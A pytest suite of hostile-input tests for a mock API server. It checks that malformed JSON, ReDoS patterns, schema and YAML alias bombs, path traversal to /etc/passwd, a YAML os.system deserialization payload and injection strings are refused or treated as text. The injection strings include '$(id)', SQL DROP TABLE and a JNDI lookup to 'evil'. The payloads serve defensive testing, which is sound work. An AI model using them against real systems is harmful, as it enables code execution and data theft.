"""Rows H18 to H25: bodies, schemas, patterns, contracts and names."""

from __future__ import annotations

import contextlib
import copy
import json
import random
import subprocess
import sys
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner

from mockserver import MockServer, connect
from mockserver.cli.main import main
from mockserver.contract import load_contract
from mockserver.exceptions import InvalidInput
from mockserver.serving.building import load_sources
from mockserver.settings import Settings, packaged_folder
from tests.doors import Answer
from tests.hostile.json_texts import ACCEPTED, ACCEPTED_HERE, REFUSED, REFUSED_HERE
from tests.hostile.servers import target_with
from tests.hostile.wire import CREATE, Target, http, read_answer


def ask_all(target: Target, bodies: dict[str, bytes]) -> dict[str, Answer]:
    """The answers to a create with each body, over one connection."""
    client, rest, answers = target.connect(), b"", {}
    for name, body in bodies.items():
        client.sendall(
            http("POST", CREATE, "Content-Type: application/json", f"Content-Length: {len(body)}", body=body)
        )
        reply = read_answer(client, rest)
        answers[name], rest = reply.answer, reply.rest
    return answers


# H18


@pytest.mark.parametrize("bodies", [ACCEPTED, ACCEPTED_HERE], ids=["must", "may"])
def test_h18_texts_that_are_json_are_judged_by_the_schema(target: Target, bodies: dict[str, bytes]) -> None:
    answers = ask_all(target, bodies)
    assert {name: answer.outcome for name, answer in answers.items()} == dict.fromkeys(
        bodies, (422, "invalid_request")
    )
    for answer in answers.values():
        assert answer.json["error"]["details"]["violations"]


@pytest.mark.parametrize("bodies", [REFUSED, REFUSED_HERE], ids=["must", "may"])
def test_h18_texts_that_are_no_json_are_400(target: Target, bodies: dict[str, bytes]) -> None:
    answers = ask_all(target, bodies)
    assert {name: answer.outcome for name, answer in answers.items()} == dict.fromkeys(
        bodies, (400, "malformed_json")
    )
    for answer in answers.values():
        assert answer.json["error"]["code"] == 400


def test_h18_two_documents_and_other_encodings_are_400(target: Target) -> None:
    text = '{"name":"n","permissions":{}}'
    bodies = {
        "two": (text + text).encode(),
        "lines": (text + "\n" + text).encode(),
        "utf-16": text.encode("utf-16"),
        "utf-32": text.encode("utf-32"),
        "bom": text.encode("utf-8-sig"),
    }
    assert {answer.status for answer in ask_all(target, bodies).values()} == {400}


@pytest.mark.parametrize("limit", [8, 64, 100])
def test_h18_depth_is_an_option_and_what_it_lets_in_can_be_read_everywhere(limit: int) -> None:
    def body(depth: int) -> bytes:
        inner = b"[" * (depth - 2) + b"]" * (depth - 2)
        return b'{"name":"n","permissions":{},"metadata":{"a":%b}}' % inner

    with target_with(json_depth=limit) as target, MockServer(json_depth=limit) as server:
        # Tried in vain, by walking through the body.
        target.stub({"status": 500}, times=1)
        never = {"bodyPatterns": [{"equalToJson": {"a": 1}, "ignoreArrayOrder": True}], "urlPath": "/v1/x"}
        assert target.control("POST", "/mappings", {"request": never, "response": {}}).status == 201
        assert target.ask(http(body=body(limit))).status == 500
        assert target.ask(http(body=body(limit))).status == 201
        refused = target.ask(http(body=body(limit + 1)))
        assert refused.outcome == (400, "malformed_json")
        assert refused.json["error"]["details"]["hint"] == f"nested deeper than {limit} levels"
        for path in ("/requests", "/har", "/audits/duplicates", "/requests/unmatched/near-misses"):
            assert target.control("GET", path).status == 200
        remote = connect(target.server.origin)
        assert [call.json["metadata"]["a"] for call in remote.calls("createApiKey")[:2]] == [
            json.loads(body(limit))["metadata"]["a"]
        ] * 2
        with pytest.raises(AssertionError):
            remote.verify("createApiKey", times=9)
        # The same without a socket.
        client = httpx.Client(transport=server.transport())
        headers = {"Authorization": f"Bearer {server.secret_key}", "Content-Type": "application/json"}
        url = f"http://mock{CREATE}"
        assert client.post(url, content=body(limit), headers=headers).status_code == 201
        assert client.post(url, content=body(limit + 1), headers=headers).status_code == 400
        assert server.calls()[0].json == json.loads(body(limit))


@pytest.mark.parametrize("limit", [30, 10_000, 100_000])
def test_h18_the_length_of_a_number_is_an_option(limit: int) -> None:
    with target_with(json_number_length=limit) as target:
        text = b'{"name":"n","permissions":{},"metadata":{"a":%b}}'
        assert target.ask(http(body=text % (b"1" * limit))).status == 201
        assert target.ask(http(body=text % (b"1" * (limit + 1)))).outcome == (400, "malformed_json")
        assert target.control("GET", "/calls").body.count(b"1" * limit) >= (1 if limit < 20_000 else 0)


# H19

NAMES = [
    "__proto__",
    "constructor",
    "__class__",
    "$ref",
    "$schema",
    "",
    " ",
    "toString",
    "__init__",
    "a" * 500,
]


def test_h19_names_with_a_meaning_elsewhere_are_data(target: Target) -> None:
    metadata = dict.fromkeys(NAMES, "x")
    body = json.dumps({"name": "n", "permissions": {}, "metadata": metadata}).encode()
    answer = target.ask(http(body=body))
    assert answer.status == 201, answer.body
    assert answer.json["data"]["metadata"] == metadata
    assert target.calls()[0]["request"]["body"]["metadata"] == metadata


def test_h19_members_that_nobody_knows_are_dropped_and_noted_within_bounds(target: Target) -> None:
    body = json.dumps(
        {"name": "n", "permissions": {}} | {f"k{number}": 1 for number in range(80_000)}
    ).encode()
    assert target.ask(http(body=body)).status == 201
    (call,) = target.calls()
    assert 0 < len(json.dumps(call["warnings"])) < 50_000


@pytest.mark.parametrize("length", [1_000_000, 10_000_000])
def test_h19_a_name_as_long_as_the_body_is_bounded(target: Target, length: int) -> None:
    body = b'{"name":"n","permissions":{},"metadata":{"%b":"x"}}' % (b"k" * length)
    if length > 1024 * 1024:
        assert target.is_refused(http(body=body)).status == 413
        return
    assert target.ask(http(body=body)).status in (201, 422)
    assert len(json.dumps(target.calls())) < 1_000_000


def test_h19_a_long_name_does_not_multiply_in_the_report(target: Target) -> None:
    body = json.dumps({"name": "n", "permissions": {"k" * 500_000: [1] * 200}}).encode()
    answer = target.ask(http(body=body))
    assert answer.status == 422
    assert len(answer.body) < 2 * len(body)
    assert answer.json["error"]["details"]["violations"][0]["message"].endswith("more ways than are listed")


def test_h19_a_key_under_a_long_name_is_noticed_at_once(target: Target) -> None:
    metadata = {"k" * 500_000: ["", f"sk_test_mock_{'x' * 32}", *[""] * 100_000]}
    body = json.dumps({"name": "n", "permissions": {}, "metadata": metadata}).encode()
    assert target.ask(http(body=body)).status == 201
    (warning,) = target.calls()[0]["warnings"]
    assert warning["code"] == "leaked_key"
    assert len(warning["message"]) < 500


def test_h19_duplicate_members_by_the_ten_thousands_are_read_at_once(target: Target) -> None:
    pairs = ",".join(f'"k{number}":1' for number in range(40_000))
    body = f'{{"name":"n","permissions":{{}},"metadata":{{{pairs},{pairs}}}}}'.encode()
    assert target.ask(http(body=body)).status in (201, 422)
    codes = {warning["code"] for warning in target.calls()[0]["warnings"]}
    assert "duplicate_member" in codes


# H20

NODE = {
    "type": "object",
    "properties": {"c": {"$ref": "#/components/schemas/Node"}},
    "additionalProperties": False,
}
# Each level doubles the ways in which a value can be wrong.
BRANCHING = {"type": "object", "properties": {"c": {"$ref": "#/components/schemas/Branching"}, "bad": False}}
SCHEMAS = {
    "Node": NODE,
    "Branching": {"anyOf": [BRANCHING, {**BRANCHING, "minProperties": 1}]},
    "Price": {"type": "object", "properties": {"amount": {"type": "number", "multipleOf": 0.01}}},
    "Set": {"type": "array", "uniqueItems": True, "items": {"type": "object", "required": ["id"]}},
    "Text": {"type": "string", "pattern": "^(a+)+$"},
    "Letters": {"type": "string", "pattern": "^\\p{L}+$"},
    "Exact": {"type": "string", "pattern": "^abc$"},
    "Digit": {"type": "string", "pattern": "^\\d$"},
}


def write_contract(folder: Path, **schemas: Any) -> Path:
    """A contract with one POST for each schema, `/v1/<name>`, but for those whose names have a number."""
    paths = {
        f"/{name}": {
            "post": {
                "operationId": name,
                "requestBody": {
                    "required": True,
                    "content": {"application/json": {"schema": {"$ref": f"#/components/schemas/{name}"}}},
                },
                "responses": {
                    "200": {"description": "ok"},
                    "422": {"description": "no"},
                    "400": {"description": "no"},
                },
            }
        }
        for name in schemas
        if name.isalpha()
    }
    path = folder / "openapi.json"
    document = {
        "openapi": "3.1.0",
        "info": {"title": "t", "version": "1"},
        "servers": [{"url": "/v1"}],
        "paths": paths,
        "components": {"schemas": schemas},
    }
    path.write_text(json.dumps(document))
    return path


@pytest.fixture(scope="module")
def judge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """A server that judges bodies by the schemas above."""
    folder = tmp_path_factory.mktemp("contract")
    (folder / "fixtures").mkdir()
    with target_with(contract=write_contract(folder, **SCHEMAS), fixtures=folder / "fixtures") as target:
        yield target


def verdict(target: Target, name: str, value: Any) -> int:
    body = value if isinstance(value, bytes) else json.dumps(value).encode()
    target.engine.namespaces.reset_all()
    answer = target.ask(http("POST", f"/v1/{name}", body=body))
    assert answer.reason != "mock_failure"
    return answer.status


def nested(levels: int, leaf: Any) -> Any:
    value = leaf
    for _ in range(levels):
        value = {"c": value}
    return value


def test_h20_three_thousand_objects_are_compared_at_once(judge: Target) -> None:
    items = [{"id": number, "name": str(number), "tags": [number]} for number in range(3_000)]
    assert verdict(judge, "Set", items) == 200
    assert verdict(judge, "Set", [*items, items[7]]) == 422
    assert judge.calls()[0]["violations"] == [
        {
            "in": "body",
            "pointer": "",
            "keyword": "uniqueItems",
            "message": "must not hold the same item twice",
        }
    ]
    assert verdict(judge, "Set", [{"id": 1}, {"id": 1.0}]) == 422
    assert verdict(judge, "Set", [{"id": 1}, {"id": True}]) == 200


def test_h20_a_recursive_schema_is_followed_to_the_depth_of_json(judge: Target) -> None:
    assert verdict(judge, "Node", nested(63, {})) == 200
    assert verdict(judge, "Node", nested(62, {"bad": 1})) == 422
    assert judge.calls()[0]["violations"][0]["pointer"] == "/c" * 62 + "/bad"
    assert verdict(judge, "Node", nested(500, {})) == 400


def test_h20_a_schema_that_contains_itself_twice_is_no_bomb(judge: Target) -> None:
    # In a process of its own: each level that is not remembered would double the time, without an end.
    program = """
import json, sys
from mockserver.contract.schema_registry import SchemaRegistry
schema, deep = json.load(sys.stdin)
registry = SchemaRegistry({"components": {"schemas": {"Branching": schema}}})
compiled = registry.compile("/components/schemas/Branching")
print(compiled.is_valid(deep), len(compiled.violations(deep)))
"""
    told = json.dumps([SCHEMAS["Branching"], nested(62, {"bad": 1})])
    run = subprocess.run(
        [sys.executable, "-c", program], input=told, capture_output=True, text=True, timeout=60, check=True
    )
    assert run.stdout == "False 1\n"
    assert verdict(judge, "Branching", nested(62, {"bad": 1})) == 422
    assert verdict(judge, "Branching", nested(62, {})) == 200


def test_h20_a_report_costs_a_bounded_number_of_steps(judge: Target) -> None:
    assert verdict(judge, "Branching", nested(8, {"bad": 1})) == 422
    assert judge.calls()[0]["violations"][0]["keyword"] == "anyOf"
    assert verdict(judge, "Branching", nested(18, {"bad": 1})) == 422
    assert judge.calls()[0]["violations"] == [
        {"in": "body", "pointer": "", "keyword": "schema", "message": "does not fit its schema"}
    ]
    assert verdict(judge, "Set", [{}] * 30_000) == 422
    violations = judge.calls()[0]["violations"]
    assert len(violations) == 101
    assert violations[0]["message"] == "breaks its schema in more ways than are listed"


@pytest.mark.parametrize(
    "text, status",
    [
        ("19.99", 200),
        ("0.07", 200),
        ("19.999", 422),
        ("1" * 400, 200),
        ("1" * 400 + ".25", 200),
        ("-0.0", 200),
        ("1e300", 200),
    ],
)
def test_h20_multiples_are_judged_as_people_write_numbers(judge: Target, text: str, status: int) -> None:
    assert verdict(judge, "Price", b'{"amount":%b}' % text.encode()) == status


# H21


def test_h21_a_pattern_that_hangs_other_engines_takes_no_time(judge: Target) -> None:
    assert verdict(judge, "Text", "a" * 500_000 + "!") == 422
    assert verdict(judge, "Text", "a" * 500_000) == 200


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|a)*b", "(.*)*x", "^(([a-z])+.)+[A-Z]([a-z])+$"])
def test_h21_such_a_pattern_in_a_stub_takes_no_time(target: Target, pattern: str) -> None:
    mapping = {
        "request": {"urlPathPattern": "/v1/.*", "bodyPatterns": [{"matches": pattern}]},
        "response": {"status": 200},
    }
    assert target.control("POST", "/mappings", mapping).status == 201
    target.ask(http("POST", CREATE, "Content-Type: application/json", body=b"a" * 500_000 + b"!"))


@pytest.mark.parametrize("pattern", ["(a)\\1", "(?=a)b", "(?<!a)b", "(a{1000}){1000}", "(", "a" * 5_000])
def test_h21_a_pattern_that_cannot_be_bounded_is_refused_with_its_place(target: Target, pattern: str) -> None:
    mapping = {"request": {"urlPathPattern": pattern}, "response": {"status": 200}}
    answer = target.control("POST", "/mappings", mapping)
    assert answer.status == 422
    assert answer.json["errors"][0]["source"]["pointer"] == "/request/urlPathPattern"


# H22


@pytest.mark.parametrize(
    "name, text, status",
    [
        ("Letters", "ünï", 200),
        ("Letters", "a1", 422),
        ("Exact", "abc", 200),
        ("Exact", "abc\n", 422),
        ("Exact", "\nabc", 422),
        ("Digit", "7", 200),
        ("Digit", "\u0663", 422),
    ],
)
def test_h22_patterns_mean_what_ecma_262_says(judge: Target, name: str, text: str, status: int) -> None:
    assert verdict(judge, name, text) == status


@pytest.mark.parametrize("pattern", ["[", "a{2,1}", "("])
def test_h22_a_pattern_that_nothing_can_run_is_a_warning_with_its_place(tmp_path: Path, pattern: str) -> None:
    path = write_contract(tmp_path, Text={"type": "object", "properties": {"a": {"pattern": pattern}}})
    warnings = load_contract(path).warnings
    place = "/components/schemas/Text/properties/a/pattern"
    assert [(warning.pointer, warning.file) for warning in warnings] == [(place, "openapi.json")]


@pytest.mark.parametrize(
    "pattern",
    ["^(?!(a+)+$)b", "^(a+)+(?=b)$", r"^(\w+\s?)*\1$", r"^(a|aa)+(?<=c)$", r"(.*)*\1x", "^(?=(a*)*$)c"],
)
def test_h22_a_pattern_that_no_linear_engine_runs_has_a_bound(tmp_path: Path, pattern: str) -> None:
    path = write_contract(tmp_path, Text={"type": "object", "properties": {"a": {"pattern": pattern}}})
    (tmp_path / "fixtures").mkdir()
    with target_with(contract=path, fixtures=tmp_path / "fixtures") as target:
        body = json.dumps({"a": "a" * 50_000 + "!"}).encode()
        assert target.ask(http("POST", "/v1/Text", body=body)).status in (200, 422)


# H23

A = "#/components/schemas/A"
BAD_SCHEMAS: dict[str, tuple[dict[str, Any], str]] = {
    "http": ({"A": {"$ref": "http://127.0.0.1:9/x.json"}}, "/components/schemas/A/$ref"),
    "file": ({"A": {"$ref": "file:///etc/passwd"}}, "/components/schemas/A/$ref"),
    "absolute": ({"A": {"$ref": "/etc/passwd"}}, "/components/schemas/A/$ref"),
    "upwards": ({"A": {"$ref": "../secret.json"}}, "/components/schemas/A/$ref"),
    "upwards-encoded": ({"A": {"$ref": "%2e%2e/secret.json"}}, "/components/schemas/A/$ref"),
    "backslash": ({"A": {"$ref": "..\\secret.json"}}, "/components/schemas/A/$ref"),
    "nul": ({"A": {"$ref": "a\u0000.json"}}, "/components/schemas/A/$ref"),
    "missing": ({"A": {"$ref": "#/components/schemas/B"}}, "/components/schemas/A/$ref"),
    "missing-file": ({"A": {"$ref": "b.json"}}, ""),
    "no-type": ({"A": {"type": "strnig"}}, "/components/schemas/A/type"),
    "no-schema": ({"A": 5}, ""),
    "foreign-dialect": ({"A": {"$schema": 5}}, "/components/schemas/A/$schema"),
}  # fmt: skip


@pytest.mark.parametrize("schemas, pointer", BAD_SCHEMAS.values(), ids=BAD_SCHEMAS)
def test_h23_a_broken_contract_is_refused_with_file_and_place(
    tmp_path: Path, schemas: dict[str, Any], pointer: str
) -> None:
    (tmp_path / "secret.json").write_text('{"type": "string"}')
    folder = tmp_path / "contract"
    folder.mkdir()
    check_refused(write_contract(folder, **schemas), pointer)


def check_refused(path: Path, pointer: str) -> None:
    """`check` exits with 1, `serve` with 2; both name file and place, and show no traceback."""
    for command, code in (("check", 1), ("serve", 2)):
        result = CliRunner().invoke(main, [command, "--contract", str(path)])
        assert result.exit_code == code, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert pointer in result.output
        assert ".json" in result.output or ".yaml" in result.output
        assert "Traceback" not in result.output


def test_h23_two_templates_of_one_shape_are_a_problem_and_the_rest_is_served(tmp_path: Path) -> None:
    operation = "{get: {parameters: [{name: %s, in: path, schema: {}}], responses: {200: {description: ok}}}}"
    path = tmp_path / "openapi.yaml"
    paths = "".join(f"  /x/{{{name}}}: {operation % name}\n" for name in "ab")
    path.write_text(f"openapi: 3.1.0\npaths:\n{paths}", "utf-8")
    result = CliRunner().invoke(main, ["check", "--contract", str(path)])
    assert result.exit_code == 1
    assert "openapi.yaml#/paths/~1x~1{b}" in result.output
    sources = load_sources(Settings(contract=path))
    assert [problem.pointer for problem in sources.problems] == ["/paths/~1x~1{b}"]
    assert sources.contract.operations


def test_h23_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.json").write_text('{"type": "string"}')
    folder = tmp_path / "contract"
    folder.mkdir()
    (folder / "link.json").symlink_to(tmp_path / "secret.json")
    check_refused(write_contract(folder, A={"$ref": "link.json"}), "/components/schemas/A/$ref")


def test_h23_no_foreign_meta_schema_is_looked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        address = f"http://127.0.0.1:{listener.getsockname()[1]}/schema"
        with contextlib.suppress(InvalidInput):
            load_contract(write_contract(tmp_path, A={"$schema": address, "$id": address, "type": "object"}))
        with pytest.raises(BlockingIOError):
            listener.accept()


DOCUMENTS: dict[str, tuple[str, str]] = {
    "alias-bomb": (
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n" for old, new in pairwise("abcdefghijkl")),
        "aliases make the document too large",
    ),
    "alias-loop": ("a: &a {b: *a}\n", "/a/b"),
    "python-object": ("openapi: 3.1.0\nx: !!python/object/apply:os.system ['touch pwned']\n", "/x"),
    "own-tag": ("openapi: !env HOME\n", "/openapi"),
    "duplicate-keys": ("openapi: 3.1.0\ninfo: {title: a, title: b}\n", "/info/title"),
    "two-documents": ("openapi: 3.1.0\n---\nopenapi: 3.1.0\n", "more than one document"),
    "deep": ("[" * 100_000, "nested deeper than 64"),
    "no-yaml": ("a: [", "is not YAML"),
    "swagger": ("swagger: '2.0'\n", "/paths"),
    "no-object": ("[]", "must be an object"),
    "empty": ("", "must be an object"),
}  # fmt: skip


@pytest.mark.parametrize("text, words", DOCUMENTS.values(), ids=DOCUMENTS)
def test_h23_a_hostile_document_is_refused_with_its_place(tmp_path: Path, text: str, words: str) -> None:
    path = tmp_path / "openapi.yaml"
    path.write_text(text)
    check_refused(path, words)
    assert sorted(item.name for item in tmp_path.iterdir()) == ["openapi.yaml"]


def test_h23_a_huge_file_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "openapi.json"
    with path.open("wb") as file:
        file.truncate(64 * 1024 * 1024)
    check_refused(path, "larger than 16 MiB")


def test_h23_yaml_is_read_by_its_newer_rules(tmp_path: Path) -> None:
    path = tmp_path / "openapi.yaml"
    path.write_text(
        "openapi: 3.1.0\ninfo: {title: NO, version: 1.10}\npaths:\n  /x:\n    get:\n      operationId: x\n"
        "      responses:\n        200:\n          description: on\n          content:\n"
        "            application/json: {schema: {enum: [NO, yes, 012, 2020-01-01, ~]}}\n"
    )
    contract = load_contract(path)
    assert contract.title == "NO"
    assert contract.operations["x"].statuses == (200,)
    schema = contract.operations["x"].envelopes["200"].schema
    assert schema is not None
    assert [schema.is_valid(value) for value in ("NO", "yes", 12, "2020-01-01", None)] == [True] * 5


UNMAKEABLE = {
    "long": {"type": "string", "minLength": 10**9},
    "many": {"type": "array", "minItems": 10**9, "items": {}},
    "members": {"type": "object", "minProperties": 10**9},
    "contradiction": {"type": "string", "pattern": "^a$", "minLength": 5},
    "never": False,
    "endless": {"type": "object", "required": ["a"], "properties": {"a": {"$ref": A}}},
}


@pytest.mark.parametrize("schema", UNMAKEABLE.values(), ids=UNMAKEABLE)
def test_h23_a_schema_of_which_no_value_can_be_made_is_told_of_at_the_start(
    tmp_path: Path, schema: Any
) -> None:
    path = write_contract(tmp_path, A=schema)
    document = json.loads(path.read_text())
    document["paths"]["/A"]["post"]["responses"]["200"]["content"] = {
        "application/json": {"schema": {"$ref": A}}
    }
    path.write_text(json.dumps(document))
    result = CliRunner().invoke(main, ["check", "--contract", str(path)])
    assert result.exit_code == 0, result.output
    assert "warning: openapi.json#/paths/~1A/post/responses/200" in result.stderr
    (tmp_path / "fixtures").mkdir()
    with target_with(contract=path, fixtures=tmp_path / "fixtures") as target:
        # Whatever the body is: nothing hangs, and what cannot be answered is no answer of the API.
        for body in (b"{}", b'{"a":{}}', b"5"):
            answer = target.ask(http("POST", "/v1/A", body=body))
            assert answer.outcome in ((501, "broken_contract"), (422, "invalid_request"))


JUNK: list[Any] = [
    None, True, 0, -1, 1.5, "", "x", "\u00fc\r\n", "#/", "{a}", [], [None], ["x"], [[]], {}, {"a": 1},
    {"$ref": "#"}, {"$ref": "#/nope"}, {"$ref": 5}, {"$ref": "api-key.json#/x"}, {"type": []}, "a" * 300,
    10**30, {"$ref": "api-key.json"},
]  # fmt: skip
MEMBERS = ["", "$ref", "$schema", "schema", "x-a", "é", "a b", "get", "200", "20", "default"]


def test_h23_a_contract_with_anything_anywhere_is_read_or_refused(tmp_path: Path) -> None:
    documents = {
        path.name: json.loads(path.read_text()) for path in packaged_folder("schemas").glob("*.json")
    }
    refused = 0
    for seed in range(150):
        chance = random.Random(seed)
        broken = chance.choice(["openapi.json", "openapi.json", *sorted(documents)])
        for name, document in documents.items():
            text = json.dumps(damage(document, chance) if name == broken else document)
            (tmp_path / name).write_text(text)
        try:
            load_contract(tmp_path / "openapi.json")
        except InvalidInput as error:
            refused += 1
            assert all(problem.file for problem in error.problems)
    assert 20 < refused < 130


def damage(document: Any, chance: random.Random) -> Any:
    """The document with up to three of its parts replaced, removed or renamed."""
    document = copy.deepcopy(document)
    for _ in range(chance.choice([1, 1, 1, 2, 3])):
        path = chance.choice([path for path in places(document) if path])
        owner = document
        for token in path[:-1]:
            owner = owner[token]
        deed = chance.random()
        if deed < 0.6:
            owner[path[-1]] = copy.deepcopy(chance.choice(JUNK))
        elif deed < 0.8 or isinstance(owner, list):
            del owner[path[-1]]
        else:
            owner[chance.choice(MEMBERS)] = owner.pop(path[-1])
    return document


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for name, item in value.items():
            yield from places(item, (*path, name))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from places(item, (*path, index))


# H24

NAMES_OF_FILES = [
    "../x.json", "../../etc/passwd", "/etc/passwd", "..\\x.json", "x\\..\\..\\y", "a\u0000.json", "x" * 300,
    "CON", "%2e%2e/x", "file:///etc/passwd", "~/x", ".", "",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES_OF_FILES)
def test_h24_no_name_in_a_stub_reaches_a_file(target: Target, name: str) -> None:
    mapping = {"request": {"url": "/x"}, "response": {"status": 200, "bodyFileName": name}}
    answer = target.control("POST", "/mappings", mapping)
    assert answer.status == 422
    assert answer.json["errors"][0]["source"]["pointer"] == "/response/bodyFileName"


def test_h24_nothing_is_ever_written(target: Target) -> None:
    assert target.control("POST", "/mappings/save").status == 422
    assert target.control("PUT", "/~../__admin/namespaces/..%2f..%2fx", {}).status in (404, 405, 422)
    assert target.control("GET", "/mappings/..%2f..%2fetc%2fpasswd").status == 404


@pytest.mark.parametrize("name", ["../x", "A", "a_b", "a" * 41, "%2e%2e", "a%2fb", "ä", "a.b", "~"])
def test_h24_a_name_of_a_namespace_is_what_it_must_be(target: Target, name: str) -> None:
    encoded = name.encode().decode("latin-1") if name.isascii() else "%C3%A4"
    assert target.ask(http("PUT", f"/__admin/namespaces/{encoded}", body=b"{}", key=None)).status in (
        404,
        422,
    )
    assert [space.name for space in target.engine.namespaces] == ["default"]


# H25

PAYLOADS = [
    "{{7*7}}", "${7*7}", "#{7*7}", "{{request.headers.Authorization}}", "{{randomValue}}", "<%= 7*7 %>",
    "$(id)", "`id`", "%n%s%x", "{0.__class__}", "{self}", "__import__('os').system('id')",
    "'; DROP TABLE calls; --",
    "{{systemValue key='HOME'}}", "{% for x in y %}", "${jndi:ldap://evil/x}",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_h25_what_looks_like_a_template_is_text(target: Target, payload: str) -> None:
    body = json.dumps({"name": payload, "permissions": {}, "metadata": {payload: payload}}).encode()
    data = target.ask(http(body=body)).json["data"]
    assert (data["name"], data["metadata"]) == (payload, {payload: payload})
    mapping = {
        "request": {"url": "/x"},
        "response": {"status": 200, "body": payload, "headers": {"X-A": payload}},
    }
    assert target.control("POST", "/mappings", mapping).status == 201
    answer = target.ask(http("GET", "/x"))
    assert (answer.body.decode(), answer.header("x-a")) == (payload, payload)


def test_h25_a_transformer_that_is_not_there_is_refused_rather_than_forgotten(target: Target) -> None:
    mapping = {"request": {"url": "/x"}, "response": {"body": "{{now}}", "transformers": ["run-script"]}}
    answer = target.control("POST", "/mappings", mapping)
    assert answer.status == 422
    assert answer.json["errors"][0]["source"]["pointer"].startswith("/response/transformers")
